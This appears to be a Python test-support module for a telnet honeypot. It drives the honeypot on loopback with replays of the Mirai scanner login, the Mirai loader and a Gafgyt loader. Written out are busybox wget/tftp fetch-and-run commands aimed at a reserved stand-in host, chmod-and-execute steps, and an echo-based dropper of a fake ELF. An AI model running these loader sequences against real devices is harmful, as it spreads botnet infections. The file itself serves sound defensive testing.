"""Shared by the lure tests and bench: start/stop a honeypot on loopback, a
telnet client that answers option negotiation the way Mirai's does, and
replays of the Mirai scanner login, the Mirai loader and a Gafgyt loader as
their public descriptions give them (shared/reference/facts.md).  Loopback
only: the URLs the bots "download" from are in 198.18.0.0/15 and are never
contacted (the honeypot never fetches)."""
import hashlib
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import shutil
import time
import atexit

_dirs, _procs = [], []


def _cleanup():
    """A test that fails half-way must not leave a honeypot running."""
    for p in _procs:
        if p.poll() is None:
            p.kill()
            p.wait()
    for d in _dirs:
        shutil.rmtree(d, ignore_errors=True)


atexit.register(_cleanup)


def scratch():
    d = tempfile.mkdtemp(prefix="mamori-lure-")
    _dirs.append(d)
    return d

M = os.environ.get("MAMORI", "build/mamori")
ROOT = os.environ.get("MAMORI_SOURCE_ROOT", os.path.join(os.path.dirname(__file__), "../.."))
IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
NAWS = 31


class Honeypot:
    """A `mamori lure` process on 127.0.0.1, an ephemeral port, a scratch dir."""

    def __init__(self, *extra, persona="dvr-armv7", tmp=None, listen="127.0.0.1:0", env=None):
        self.dir = tmp or scratch()
        self.events = os.path.join(self.dir, "lure.json")
        self.db = os.path.join(self.dir, "mamori.db")
        self.files = os.path.join(self.dir, "files")
        args = [M, "lure", "--listen", listen, "--persona", persona, "--events", self.events,
                "--db", self.db, "--files", self.files, "--sensor", "test-sensor", *extra]
        e = dict(os.environ, MAMORI_DATA=os.path.join(ROOT, "data"), **(env or {}))
        self.proc = subprocess.Popen(args, stderr=subprocess.PIPE, stdout=subprocess.DEVNULL,
                                     text=True, env=e)
        _procs.append(self.proc)
        line = self.proc.stderr.readline()  # "mamori lure: NAME on ADDR:PORT (...)"
        if " on " not in line:
            raise SystemExit(f"FAIL: lure did not start: {line}{self.proc.stderr.read()}")
        self.banner = line
        spec = line.split(" on ")[1].split(" ")[0].split(",")[0]
        self.port = int(spec.rsplit(":", 1)[1])
        self.summary = None

    def stop(self):
        """SIGTERM, wait, and return the exit status; every session is logged by then."""
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
        rc = self.proc.wait(timeout=60)
        self.summary = self.proc.stderr.read()
        return rc

    def read_events(self):
        with open(self.events, encoding="utf-8") as f:
            return [json.loads(line) for line in f]

    def query(self, sql, *args):
        con = sqlite3.connect(self.db)
        try:
            return con.execute(sql, args).fetchall()
        finally:
            con.close()


class Telnet:
    """A bot's telnet client: answers DO NAWS with WILL NAWS and an 80x24
    window, other DOs with WONT and WILLs with DO, and keeps the decoded
    data (IAC IAC undone) for matching."""

    def __init__(self, port, host="127.0.0.1", source=None, timeout=10):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if source:
            self.s.bind((source, 0))
        self.s.settimeout(timeout)
        self.s.connect((host, port))
        self.local_port = self.s.getsockname()[1]
        self.buf = b""
        self.options = []  # (cmd, opt) the server sent
        self._state = 0
        self._cmd = 0

    def _decode(self, raw):
        out = bytearray()
        for b in raw:
            if self._state == 0:
                if b == IAC:
                    self._state = 1
                else:
                    out.append(b)
            elif self._state == 1:
                if b == IAC:
                    out.append(IAC)
                    self._state = 0
                elif b in (DO, DONT, WILL, WONT):
                    self._cmd, self._state = b, 2
                elif b == SB:
                    self._state = 3
                else:
                    self._state = 0
            elif self._state == 2:
                self.options.append((self._cmd, b))
                if self._cmd == DO and b == NAWS:
                    self.s.sendall(bytes([IAC, WILL, NAWS, IAC, SB, NAWS, 0, 80, 0, 24, IAC, SE]))
                elif self._cmd == DO:
                    self.s.sendall(bytes([IAC, WONT, b]))
                elif self._cmd == WILL:
                    self.s.sendall(bytes([IAC, DO, b]))
                self._state = 0
            elif self._state == 3:
                if b == IAC:
                    self._state = 4
            elif self._state == 4:
                self._state = 0 if b == SE else 3
        return bytes(out)

    def read_until(self, *needles, deadline=10.0):
        """Reads until one of needles is in the data; returns (needle, data) and
        keeps what follows.  Raises on timeout or EOF."""
        end = time.monotonic() + deadline
        while True:
            for n in needles:
                i = self.buf.find(n)
                if i >= 0:
                    data, self.buf = self.buf[: i + len(n)], self.buf[i + len(n):]
                    return n, data
            left = end - time.monotonic()
            if left <= 0:
                raise TimeoutError(f"waiting for {needles!r}; have {self.buf[-300:]!r}")
            self.s.settimeout(left)
            raw = self.s.recv(65536)
            if not raw:
                raise EOFError(f"closed while waiting for {needles!r}; have {self.buf[-300:]!r}")
            self.buf += self._decode(raw)

    def send(self, line):
        self.s.sendall((line if isinstance(line, bytes) else line.encode()) + b"\r\n")

    def read_eof(self, deadline=10.0):
        end = time.monotonic() + deadline
        while time.monotonic() < end:
            self.s.settimeout(max(end - time.monotonic(), 0.001))
            try:
                raw = self.s.recv(65536)
            except ConnectionResetError:
                return True
            except TimeoutError:
                return False
            if not raw:
                return True
            self.buf += self._decode(raw)
        return False

    def close(self):
        self.s.close()


def mirai_login(t, user, password):
    """Mirai scanner: prompt detection, credentials, then the shell checks.
    Returns True when "MIRAI: applet not found" proves a working shell."""
    t.read_until(b"ogin", b"enter", b": ")
    t.send(user)
    t.read_until(b"assword", b": ")
    t.send(password)
    hit, _ = t.read_until(b"ncorrect", b"# ", b"$ ", b"> ", b"% ")
    if hit == b"ncorrect":
        return False
    for cmd in ("enable", "system", "shell", "sh"):
        t.send(cmd)
    t.send("/bin/busybox MIRAI")
    hit, _ = t.read_until(b"MIRAI: applet not found", b"ncorrect")
    return hit == b"MIRAI: applet not found"


TOKEN = "/bin/busybox ECCHI"
TOKEN_REPLY = b"ECCHI: applet not found"
ARCH = {(40, 1): "arm", (8, 2): "mips", (8, 1): "mpsl", (3, 1): "x86", (2, 2): "spc",
        (4, 2): "m68k", (20, 2): "ppc", (42, 1): "sh4"}


def elf_arch(data, cpuinfo=b""):
    """Mirai's architecture test: the ELF header's byte order and e_machine."""
    i = data.find(b"\x7fELF")
    if i < 0 or len(data) < i + 20:
        return None
    enc = data[i + 5]
    m = data[i + 18:i + 20]
    machine = int.from_bytes(m, "little" if enc == 1 else "big")
    arch = ARCH.get((machine, enc))
    if arch == "arm" and (b"ARMv7" in cpuinfo or b"ARMv6" in cpuinfo):
        arch = "arm7"
    return arch


def dropper_payload(arch):
    """A stand-in for Mirai's 'upnp' dropper: an ELF header for arch and filler
    bytes covering every byte value (so IAC and newlines go through echo -ne)."""
    machine, enc = {"arm": (40, 1), "arm7": (40, 1), "mips": (8, 2), "mpsl": (8, 1)}[arch]
    head = b"\x7fELF\x01" + bytes([enc]) + b"\x01" + b"\x00" * 9
    head += (2).to_bytes(2, "little" if enc == 1 else "big")
    head += machine.to_bytes(2, "little" if enc == 1 else "big")
    return head + bytes(range(256)) * 2 + b"mirai dropper stand-in " + arch.encode()


def mirai_loader(t, user, password, host="198.18.0.9", port=80, bot_id="telnet.test"):
    """The Mirai loader's public sequence; returns a dict of what it saw and did."""
    seen = {"method": None, "arch": None, "path": None, "payload": None, "stages": []}

    def query(cmd):
        t.send(f"{cmd}; {TOKEN}" if cmd else TOKEN)
        return t.read_until(TOKEN_REPLY)[1]

    t.read_until(b"ogin", b"enter", b": ")
    t.send(user)
    t.read_until(b"assword", b": ")
    t.send(password)
    for cmd in ("enable", "shell", "sh"):
        t.send(cmd)
    query(None)
    seen["stages"].append("login")
    query("/bin/busybox ps")
    mounts = query("/bin/busybox cat /proc/mounts")
    paths = []
    for line in mounts.split(b"\n"):
        f = line.split()
        if len(f) >= 4 and f[3].split(b",")[0] == b"rw" and f[1].startswith(b"/"):
            paths.append(f[1].decode())
    paths.append("/dev")
    seen["stages"].append("mounts")
    for p in paths:
        probe = "".join("\\x%02x" % c for c in b"kami")
        out = query(f"/bin/busybox echo -e '{probe}{p}' > {p}/.nippon; "
                    f"/bin/busybox cat {p}/.nippon; /bin/busybox rm {p}/.nippon")
        if f"kami{p}\r\n".encode() in out:  # the cat's answer; the echoed command is escaped
            seen["path"] = p
            break
    if not seen["path"]:
        return seen
    p = seen["path"]
    query(f"rm {p}/.t; rm {p}/.sh; rm {p}/.human")
    seen["stages"].append("writable")
    t.send(f"cd {p}/")
    query("/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper")
    elf = query("/bin/busybox cat /bin/echo")
    cpu = query("/bin/busybox cat /proc/cpuinfo")
    seen["arch"] = elf_arch(elf, cpu)
    if not seen["arch"]:
        return seen
    seen["stages"].append("arch")
    tools = query("/bin/busybox wget; /bin/busybox tftp")
    arch = seen["arch"]
    if b"wget: applet not found" not in tools:
        seen["method"] = "wget"
        query(f"/bin/busybox wget http://{host}:{port}/bins/mirai.{arch} -O - > dvrHelper; "
              "/bin/busybox chmod 777 dvrHelper")
    elif b"tftp: applet not found" not in tools:
        seen["method"] = "tftp"
        query(f"/bin/busybox tftp -g -l dvrHelper -r mirai.{arch} {host}; "
              "/bin/busybox chmod 777 dvrHelper")
    else:
        seen["method"] = "echo"
        payload = dropper_payload(arch)
        seen["payload"] = payload
        query("/bin/busybox cp dvrHelper upnp; >upnp; /bin/busybox chmod 777 upnp")
        for i in range(0, len(payload), 128):
            chunk = "".join("\\x%02x" % c for c in payload[i:i + 128])
            query(f"echo -ne '{chunk}' >> upnp")
        query("./upnp > dvrHelper; /bin/busybox chmod 777 dvrHelper")
    seen["stages"].append("download")
    t.send(f"./dvrHelper {bot_id}.{arch}; /bin/busybox IHCCE")
    hit, _ = t.read_until(b"IHCCE: applet not found", b"listening tun0")
    seen["stages"].append("run")
    query("rm -rf upnp; > dvrHelper")
    seen["stages"].append("cleanup")
    return seen


def gafgyt(t, user, password, url):
    """A Gafgyt-style loader: applet probe, .s copy of /bin/echo, its ELF
    header read three ways, then wget, chmod and run."""
    t.read_until(b"ogin", b": ")
    t.send(user)
    t.read_until(b"assword", b": ")
    t.send(password)
    t.read_until(b"# ")
    t.send("cat /proc/mounts; /bin/busybox QBOT")
    t.read_until(b"QBOT: applet not found")
    t.send("cd /tmp; (cat .s || cp /bin/echo .s); /bin/busybox QBOT")
    t.read_until(b"QBOT: applet not found")
    t.send("dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s; "
           "/bin/busybox QBOT")
    _, head = t.read_until(b"QBOT: applet not found")
    t.send("while read i; do echo $i; done < .s | dd bs=4 count=1; /bin/busybox QBOT")
    _, loop = t.read_until(b"QBOT: applet not found")
    t.send(f"wget {url} -O x; chmod +x x; ./x; /bin/busybox QBOT")
    t.read_until(b"QBOT: applet not found")
    return head, loop


def sha256(b):
    return hashlib.sha256(b).hexdigest()


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def cpu_seconds(pid):
    """User + system CPU time a process has used, from /proc."""
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
